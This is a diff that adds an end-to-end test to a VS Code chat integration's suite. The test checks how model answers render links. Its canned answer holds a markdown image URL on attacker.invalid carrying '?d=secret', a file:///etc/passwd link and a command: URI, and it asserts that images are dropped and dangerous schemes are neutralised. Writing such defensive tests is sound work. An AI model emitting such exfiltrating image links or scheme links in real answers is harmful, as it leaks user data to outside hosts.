@@ -243,6 +243,37 @@ describe("VS Code's own chat with the service's models", () => {
     await shot(page, 'native-maas-kb', { x: 700, y: 0, width: 700, height: 900 });
   });
 
+  it("shows @maas's and svc_llm's answers by the chat's link rule: no image, refused links as text, destinations beside", async () => {
+    const { page } = scenario;
+    const answer =
+      'Look: ![chart](https://attacker.invalid/c.png?d=secret), [the docs](https://docs.example/a), [a file](file:///etc/passwd) ' +
+      'and [a command](command:workbench.action.terminal.new). Done.';
+    for (const question of ['@maas Where are the docs?', 'Where are the docs?']) {
+      await nativeChat(page).locator('.codicon-add, [aria-label^="New Chat"]').first().click();
+      await chooseMode(page, 'Ask');
+      await scenario.api('/_local/next-answer', { body: { text: answer, count: 1 } });
+      await sendNative(page, question);
+      const response = nativeChat(page).locator('.interactive-response').last();
+      await until(async () => /Done\./.test((await response.textContent()) ?? ''), 60_000, `the answer to "${question}"`);
+      assert.match(
+        (await response.textContent()) ?? '',
+        /Look: chart \(attacker\.invalid\), the docs \(docs\.example\), a file and a command\. Done\./,
+        `the destinations beside the texts, the refused links as text, in the answer to "${question}"`,
+      );
+      assert.equal(await response.locator('img').count(), 0, `no image in the answer to "${question}"`);
+      const links = await response
+        .locator('.rendered-markdown a')
+        .evaluateAll((anchors) => anchors.map((a) => [a.textContent, a.getAttribute('data-href') ?? a.getAttribute('href')]));
+      for (const [text, href] of links) assert.doesNotMatch(href ?? '', /^(file|command|vscode|javascript):/i, `${text} in the answer to "${question}"`);
+      // @maas's Markdown is rendered as written; Copilot, which shows the provider's answers, drops their links itself.
+      if (question.startsWith('@maas'))
+        assert.deepEqual(links, [
+          ['chart (attacker.invalid)', 'https://attacker.invalid/c.png?d=secret'],
+          ['the docs (docs.example)', 'https://docs.example/a'],
+        ]);
+    }
+  });
+
   it('in Agent mode, calls one of the tools VS Code offers and finishes from its result', async () => {
     const { page } = scenario;
     const offered = (await chatRequests()).flatMap((r) => r.body.tools ?? []).map((t) => (t.type === 'function' ? t.function.name : ''));
